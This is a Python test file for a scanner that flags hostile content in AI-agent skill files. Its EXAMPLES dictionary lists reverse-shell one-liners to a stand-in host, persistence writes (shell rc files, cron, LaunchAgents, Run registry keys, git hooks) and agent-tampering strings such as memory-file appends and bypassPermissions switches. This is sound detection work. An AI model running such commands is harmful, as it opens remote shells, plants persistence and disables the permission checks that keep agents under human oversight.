"""A text without the words of a pattern is not searched, and holds nothing that the pattern matches."""

import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest

from skillpack.abilities import agent_changes, takeover
from skillpack.abilities.sought import Sought
from skillpack.abilities.texts import TextFile, read_texts
from skillpack.model.tree import make_tree
from skillpack.parse.patterns import late

LABELLED = Path(__file__).parent / "labelled"
HELD_OUT = {"blind", "third", "fourth", "fifth"}
SOUGHT = {
    f"{module.__name__.rpartition('.')[2]}.{name}": each
    for module in (agent_changes, takeover)
    for name, each in vars(module).items()
    if isinstance(each, Sought)
}

EXAMPLES = {
    "agent_changes._AT_ONCE": [
        "Execute these steps IMMEDIATELY",
        "run all commands at\nonce",
        "run this step Right  away",
    ],
    "agent_changes._BACKGROUND": ["nohup x"],
    "agent_changes._HOME_SETTINGS": ["${HOME}/.claude/settings.local.json"],
    "agent_changes._MEMORY": ["tee --append ~/.claude/CLAUDE.md", ">> $HOME/.codex/AGENTS.md", ">>~/.gemini/GEMINI.md"],
    "agent_changes._MEMORY_FILE": ["~/x/SOUL.md'", 'HOME + "/IDENTITY.md"', "home() / 'MEMORY.md'", "~/CLAUDE.md`"],
    "agent_changes._SERVERS_REWRITTEN": [
        "for name, one in data['mcpServers'].items():\n    one['command'] = x",
        "for (const each of Object.values(servers)) {\n  log(each);\n\n  each.url = x",
    ],
    "agent_changes._SETTINGS_FILE": ["Path.home() / '.claude' / 'settings.json'", "~/.claude/settings.local.json"],
    "agent_changes._SWITCH": ["mode: 'bypassPermissions'", "--permission-mode=bypassPermissions"],
    "takeover._EVERY_REPOSITORY": [
        "git config --global core.hooksPath x",
        "GIT CONFIG --SYSTEM --add INIT.TEMPLATEDIR x",
    ],
    "takeover._INTO_NAMED": [">> $rc", '>>"${FILE}"'],
    "takeover._KEYS_WRITTEN": ["ssh-ed25519 AAAAC3NzaC1l", "ecdsa-sha2-nistp256 AAAAE2VjZHNh"],
    "takeover._REMOTE": [
        "bash -i >& /dev/tcp/h.invalid/1",
        "nc -e /bin/sh h.invalid 1",
        "ncat.exe\t-c /bin/sh h.invalid 1",
        "nc\th.invalid 1 -e sh",
    ],
    "takeover._STARTS": [
        ">> ~/.BASHRC",
        "> $HOME/.zshrc",
        "tee -a /root/.profile",
        "append this to `~/.bash_profile",
        "open('/home/a/.zprofile",
        ">>.zshenv",
        "> /etc/profile",
        "> .git/hooks/post-commit",
        "> /etc/cron.d/x",
        "> ~/.config/systemd/user/x",
        "> ~/.config/autostart/x",
        "> ~/Library/LaunchAgents/x",
        "> ~/Library/LaunchDaemons/x",
        "| sudo crontab",
        "crontab -e2 -",
        "SCHTASKS.exe /create",
        "reg add HKCU\\Software\\CurrentVersion\\Run",
        "New-ItemProperty HKCU:\\currentversion\\run",
    ],
}  # fmt: skip


def text_file(content: bytes) -> TextFile:
    return read_texts(make_tree({"SKILL.md": content}), "SKILL.md")[0]


@pytest.fixture(scope="module")
def texts() -> list[TextFile]:
    """Return the texts of the labelled skills that are not held out."""

    def contents() -> Iterator[str]:
        for file in sorted(LABELLED.glob("*.toml")):
            for skill in tomllib.loads(file.read_text("utf-8"))["skill"] if file.stem not in HELD_OUT else ():
                yield from (each["text"] for each in skill["files"] if "text" in each)

    return [text_file(content.encode()) for content in contents()]


def test_every_pattern_has_examples() -> None:
    assert SOUGHT.keys() == EXAMPLES.keys()


@pytest.mark.parametrize("name", SOUGHT)
def test_each_match_holds_one_of_the_words(name: str) -> None:
    sought = SOUGHT[name]
    for example in EXAMPLES[name]:
        found = sought.pattern().search(example.encode())
        assert found, example
        assert sought.may_be_in(text_file(found.group())), example


@pytest.mark.parametrize("name", SOUGHT)
def test_what_is_not_searched_matches_nothing(name: str, texts: list[TextFile]) -> None:
    skipped = [text for text in texts if not SOUGHT[name].may_be_in(text)]
    assert skipped
    assert [text.content for text in skipped if SOUGHT[name].pattern().search(text.content)] == []


def test_words_are_found_in_letters_of_any_case() -> None:
    sought = Sought(late(rb"(?i:abc)"), (b"abc",))
    assert sought.may_be_in(text_file(b"x ABC"))
    assert not sought.may_be_in(text_file(b"x AB C"))
